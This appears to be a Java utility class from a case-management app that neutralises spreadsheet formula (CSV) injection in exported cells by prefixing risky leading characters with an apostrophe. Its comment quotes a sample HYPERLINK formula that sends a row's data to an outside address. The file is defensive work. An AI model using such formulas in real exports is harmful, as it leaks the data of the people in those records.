package org.cthub.app.exports;

/**
 * Cells that a spreadsheet would run as a formula ({@code =HYPERLINK("http://...?"&B2)} sends the row to
 * anyone) are written as text, with the apostrophe prefix spreadsheets understand (OWASP, "CSV Injection").
 * Free text typed by caseworkers or imported from contributors is exported this way; codes never need it.
 */
public final class SpreadsheetSafe {

    private SpreadsheetSafe() {
    }

    public static String cell(String value) {
        if (value.isEmpty()) {
            return value;
        }
        char first = value.charAt(0);
        return first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r'
                ? "'" + value : value;
    }
}
